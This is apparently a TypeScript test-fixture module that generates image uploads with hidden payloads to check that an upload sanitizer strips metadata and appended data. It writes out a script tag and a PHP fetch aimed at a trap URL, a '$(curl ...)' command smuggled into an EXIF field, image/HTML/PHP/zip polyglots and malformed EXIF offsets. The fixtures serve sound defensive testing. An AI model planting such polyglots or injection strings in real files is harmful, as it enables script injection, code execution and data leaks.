import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { bytesIn, intoJpeg, intoPng, intoWebp, pngChunk } from './bytes.ts'
import type { Upload } from './kinds.ts'

/** Stands in everything that must not come through. */
export const secret = 'tell-nobody'

type Format = 'jpeg' | 'png' | 'webp' | 'avif'
export const formats = ['jpeg', 'png', 'webp', 'avif'] as const satisfies Format[]

export function aGoodOne(format: Format, width = 160, height = 120): Promise<Buffer> {
  const at = { create: { width: 80, height: 60, channels: 3, background: { r: 10, g: 10, b: 200 } } } as const
  return sharp({ create: { width, height, channels: 3, background: { r: 200, g: 100, b: 20 } } })
    .composite([{ input: at, left: 5, top: 9 }])
    .toFormat(format)
    .toBuffer()
}

/** Good pictures with something beside them: whatever is not a point of the picture has to be gone. */
export function secrets(trap: string): Upload[] {
  const page = `<!DOCTYPE html><script src="${trap}">${secret}</script>`
  const code = `<?php file_get_contents("${trap}"); /* ${secret} */ ?>`
  return [
    ...formats.flatMap((format) => [...inWords(format, trap), ...behind(format, [page, code])]),
    ...inside(page, code),
  ]
}

function inWords(format: Format, trap: string): Upload[] {
  const place = {
    GPSLatitudeRef: 'N',
    GPSLatitude: '12/1 58/1 17/1',
    GPSLongitudeRef: 'E',
    GPSLongitude: '77/1 35/1 40/1',
  }
  const exif = {
    IFD0: {
      Copyright: secret,
      ImageDescription: `<script src="${trap}">${secret}</script>`,
      Software: `$(curl ${trap})`,
    },
    IFD3: place,
  }
  const xmp = `<?xpacket begin="" id="x"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="${trap}">${secret}</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`
  const good = async () => sharp(await aGoodOne(format))
  const made: [string, () => Promise<Buffer>][] = [
    ['where it was taken', async () => (await good()).withExif(exif).toFormat(format).toBuffer()],
    ['an address in XMP', async () => (await good()).withXmp(xmp).toFormat(format).toBuffer()],
    ['a profile of colours', async () => (await good()).withIccProfile('p3').toFormat(format).toBuffer()],
  ]
  return made.map(([name, make]) => ({
    name: `${format} with ${name}`,
    expected: 'taken',
    type: `image/${format}`,
    make,
  }))
}

/** Two files in one: a picture from its beginning, something else from its end. */
function behind(format: Format, [page = '', code = '']: string[]): Upload[] {
  const archive = `PK\x03\x04\x14\0\0\0\0\0${secret}.html${page}PK\x05\x06${'\0'.repeat(18)}`
  const more: [string, string][] = [
    ['a page', page],
    ['PHP', code],
    ['an archive', archive],
  ]
  return more.map(([name, text]) => ({
    name: `${format} with ${name} behind it`,
    expected: 'either',
    type: `image/${format}`,
    make: async () => Buffer.concat([await aGoodOne(format), bytesIn(text)]),
  }))
}

const comment = 0xfe
const app = (number: number) => 0xe0 + number

function inside(page: string, code: string): Upload[] {
  const jpeg =
    (...segments: [number, string][]) =>
    async () =>
      intoJpeg(await aGoodOne('jpeg'), ...segments.map(([marker, text]): [number, Buffer] => [marker, bytesIn(text)]))
  const png =
    (...chunks: [string, Buffer][]) =>
    async () =>
      intoPng(await aGoodOne('png'), ...chunks.map(([name, data]) => pngChunk(name, data)))
  const packed = deflateSync(bytesIn(page))
  const kinds: [string, () => Promise<Buffer>][] = [
    ['a page as the comment of a JPEG', jpeg([comment, page])],
    ['PHP as the comment of a JPEG', jpeg([comment, code])],
    ['a script that begins as the length of a segment', jpeg([app(0), `*/=1;${page}/*`])],
    ['a profile that is a page', jpeg([app(2), `ICC_PROFILE\0\x01\x01${page}`])],
    ['IPTC that is a page', jpeg([app(13), `Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x40\x1c\x02\x78\0\x30${page}`])],
    ['EXIF that is a page', jpeg([app(1), `Exif\0\0${page}`])],
    ['EXIF that leads out of itself', jpeg([app(1), 'Exif\0\0MM\0*\xff\xff\xff\xff'])],
    [
      'EXIF that leads to itself',
      jpeg([app(1), `Exif\0\0MM\0*\0\0\0\x08\0\x01\x87\x69\0\x04\0\0\0\x01\0\0\0\x08\0\0\0\x08`]),
    ],
    [
      'a JPEG that was held in a ninth way',
      jpeg([app(1), `Exif\0\0MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x09\0\0\0\0\0\0`]),
    ],
    ['a page as the text of a PNG', png(['tEXt', bytesIn(`Comment\0${page}`)])],
    ['a packed page in a PNG', png(['zTXt', Buffer.concat([bytesIn('Comment\0\0'), packed])])],
    ['a page in many alphabets in a PNG', png(['iTXt', bytesIn(`Comment\0\0\0en\0\0${page}`)])],
    ['a profile of a PNG that is a page', png(['iCCP', Buffer.concat([bytesIn('x\0\0'), packed])])],
    ['a chunk of a PNG that nobody knows', png(['evIl', bytesIn(page)])],
    ['a PNG that moves', png(['acTL', bytesIn('\0\0\0\x02\0\0\0\0')], ['fcTL', Buffer.alloc(26)])],
    ['a chunk of a WebP that nobody knows', async () => intoWebp(await aGoodOne('webp'), ['EVIL', bytesIn(page)])],
    ['EXIF of a WebP that is a page', async () => intoWebp(await aGoodOne('webp'), ['EXIF', bytesIn(page)])],
    [
      'a box of an AVIF that nobody knows',
      async () => Buffer.concat([await aGoodOne('avif'), bytesIn(`\0\0\0\x40evil${page.slice(0, 56).padEnd(56)}`)]),
    ],
  ]
  return kinds.map(([name, make]) => ({ name, expected: 'either', type: 'image/png', make }))
}
